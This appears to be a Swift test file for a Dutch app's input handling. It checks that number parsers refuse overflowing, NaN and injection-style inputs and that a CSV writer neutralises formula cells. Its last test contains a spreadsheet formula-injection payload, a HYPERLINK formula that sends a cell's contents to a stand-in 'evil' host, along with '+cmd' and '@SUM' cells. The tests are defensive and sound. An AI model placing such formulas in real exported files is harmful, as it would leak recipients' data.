import Testing

@testable import VitaalDomain

@Suite struct BoundedNumberTests {
    @Test func wholeNumbersWithinTheirRange() throws {
        #expect(try BoundedNumber.int("42", field: "pagina", in: 1...100) == 42)
        #expect(try BoundedNumber.int(" 7 ", field: "pagina", in: 1...100) == 7)
        #expect(try BoundedNumber.int(nil, field: "pagina", in: 1...100) == nil)
        #expect(try BoundedNumber.int("", field: "pagina", in: 1...100) == nil)
        #expect(try BoundedNumber.int("-3", field: "x", in: -5...5) == -3)
    }

    @Test(arguments: ["9999999999999999999", "-1", "1e308", "NaN", "1.5", "0x10", "'><x", "1 000", "--1"])
    func hostileWholeNumbersAreRefusedNamingTheField(_ text: String) {
        do {
            _ = try BoundedNumber.int(text, field: "pagina", in: 1...100_000)
            Issue.record("\(text) was accepted")
        } catch {
            #expect(error.kind == .invalidInput)
            #expect(error.problems.first?.location.field == "pagina")
            #expect(error.message.hasPrefix("veld \"pagina\": "))
        }
    }

    @Test func rangeMessageNamesTheLimits() {
        do {
            _ = try BoundedNumber.int("100001", field: "pagina", in: 1...100_000)
            Issue.record("accepted")
        } catch { #expect(error.message == "veld \"pagina\": moet tussen 1 en 100.000 liggen") }
    }

    @Test func decimalsAcceptPointAndComma() throws {
        #expect(try BoundedNumber.decimal("1,5", field: "f", in: 0...10) == 1.5)
        #expect(try BoundedNumber.decimal("2.25", field: "f", in: 0...10) == 2.25)
        #expect(try BoundedNumber.decimal("-0", field: "f", in: -1...1)?.sign == .plus)
    }

    @Test(arguments: [
        "1e19", "1e308", "NaN", "nan", "inf", "-Infinity", "1,2,3", "1.2.3", ".", "abc",
        String(repeating: "9", count: 10_000)
    ])
    func hostileDecimalsAreRefused(_ text: String) {
        do {
            _ = try BoundedNumber.decimal(text, field: "ritten", in: 0...10_000_000)
            Issue.record("\(text.prefix(20)) was accepted")
        } catch {
            #expect(error.problems.first?.location.field == "ritten")
            #expect(error.message.count < 200, "a long input is cut in the message")
        }
    }

    @Test func checkedArithmeticReportsOverflowInsteadOfTrapping() throws {
        #expect(try Checked.add(2, 3) == 5)
        #expect(throws: VitaalError.self) { try Checked.add(Int.max, 1) }
        #expect(throws: VitaalError.self) { try Checked.multiply(Int.max / 2, 3) }
        #expect(throws: VitaalError.self) { try Checked.sum([Int.max, 1]) }
        #expect(throws: VitaalError.self) { try Checked.int(1e19) }
        #expect(throws: VitaalError.self) { try Checked.int(.nan) }
        #expect(try Checked.int(-2.7) == -2)
    }

    @Test func csvCellsThatSpreadsheetsRunAsFormulasAreNeutralised() {
        var w = CSVWriter(separator: .semicolon)
        w.append([
            "=HYPERLINK(\"https://evil/?\"&A1;\"bron\")", "+cmd", "-2+3", "@SUM(A1)", "\tx", "-1,5", "-1.069", "+3",
            "gewoon", "-"
        ])
        #expect(
            w.text
                == "\"'=HYPERLINK(\"\"https://evil/?\"\"&A1;\"\"bron\"\")\";'+cmd;'-2+3;'@SUM(A1);'\tx;-1,5;-1.069;+3;gewoon;'-\r\n"
        )
        var raw = CSVWriter(separator: .comma, lineEnding: "\n", neutraliseFormulas: false)
        raw.append(["+31 320 123456", "=x"])
        #expect(raw.text == "+31 320 123456,=x\n")
    }
}
